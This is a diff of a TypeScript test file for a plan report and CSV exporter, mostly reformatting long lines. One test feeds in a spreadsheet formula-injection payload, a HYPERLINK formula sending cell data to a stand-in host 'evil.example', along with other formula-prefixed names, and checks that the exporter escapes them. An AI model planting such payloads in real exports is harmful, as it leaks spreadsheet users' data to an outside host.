@@ -50,7 +50,13 @@ describe('planReport', () => {
       createdBy: alice,
       createdAt: T0,
       reminders: 'weekly',
-      decision: { headline: decision.headline, reasons: decision.reasons, overridden: false, decidedBy: alice, decidedAt: T0 },
+      decision: {
+        headline: decision.headline,
+        reasons: decision.reasons,
+        overridden: false,
+        decidedBy: alice,
+        decidedAt: T0,
+      },
       progress: { done: 2, skipped: 1, open: 2, percent: 60 },
     });
     expect(report.tasks).toEqual([
@@ -103,7 +109,14 @@ describe('planReport', () => {
         lastChangedBy: carol,
         lastChangedAt: T2,
       },
-      { number: 5, track: 'cloudSync', title: 'Verify users are syncing', status: 'todo', statusLabel: 'To do', overdue: false },
+      {
+        number: 5,
+        track: 'cloudSync',
+        title: 'Verify users are syncing',
+        status: 'todo',
+        statusLabel: 'To do',
+        overdue: false,
+      },
     ]);
   });
 
@@ -178,20 +191,37 @@ describe('planCsv', () => {
     const evil: Actor = { id: 'aad-evil', name: '=HYPERLINK("http://evil.example?x="&A1,"Report")' };
     const ops: Actor = { id: 'aad-ops', name: '+1 Ops, "night" shift' };
     let plan = editPlan(newPlan(), { kind: 'assign', taskId: 'cloudSync.prerequisites', owner: evil }, evil, T1);
-    plan = editPlan(plan, { kind: 'assign', taskId: 'cloudSync.installAgent', owner: ops }, { id: 'x', name: '@admin' }, T1);
-    plan = editPlan(plan, { kind: 'assign', taskId: 'cloudSync.configure', owner: { id: 'y', name: '-Dash\nNewline' } }, bob, T1);
+    plan = editPlan(
+      plan,
+      { kind: 'assign', taskId: 'cloudSync.installAgent', owner: ops },
+      { id: 'x', name: '@admin' },
+      T1,
+    );
+    plan = editPlan(
+      plan,
+      { kind: 'assign', taskId: 'cloudSync.configure', owner: { id: 'y', name: '-Dash\nNewline' } },
+      bob,
+      T1,
+    );
     const rows = csvRows(planCsv(plan));
     expect(rows[2]).toBe(
       `2,Cloud Sync,Review Cloud Sync prerequisites,To do,"'=HYPERLINK(""http://evil.example?x=""&A1,""Report"")",,"'=HYPERLINK(""http://evil.example?x=""&A1,""Report"")",${T1},`,
     );
-    expect(rows[3]).toBe(`3,Cloud Sync,Install the provisioning agent,To do,"'+1 Ops, ""night"" shift",,'@admin,${T1},`);
+    expect(rows[3]).toBe(
+      `3,Cloud Sync,Install the provisioning agent,To do,"'+1 Ops, ""night"" shift",,'@admin,${T1},`,
+    );
     // The newline inside the quoted cell is a bare LF, so splitting on CRLF keeps the record whole.
     expect(rows[4]).toBe(`4,Cloud Sync,Configure Cloud Sync,To do,"'-Dash\nNewline",,Bob Builder,${T1},`);
     expect(rows).toHaveLength(6);
   });
 
   it('parses back to the same cells with a minimal RFC 4180 reader', () => {
-    const plan = editPlan(newPlan(), { kind: 'assign', taskId: 'cloudSync.verify', owner: { id: 'z', name: 'A "b", c\r\nd' } }, bob, T1);
+    const plan = editPlan(
+      newPlan(),
+      { kind: 'assign', taskId: 'cloudSync.verify', owner: { id: 'z', name: 'A "b", c\r\nd' } },
+      bob,
+      T1,
+    );
     const records = parseCsv(planCsv(plan));
     expect(records).toHaveLength(6);
     expect(records.every((record) => record.length === CSV_COLUMNS.length)).toBe(true);
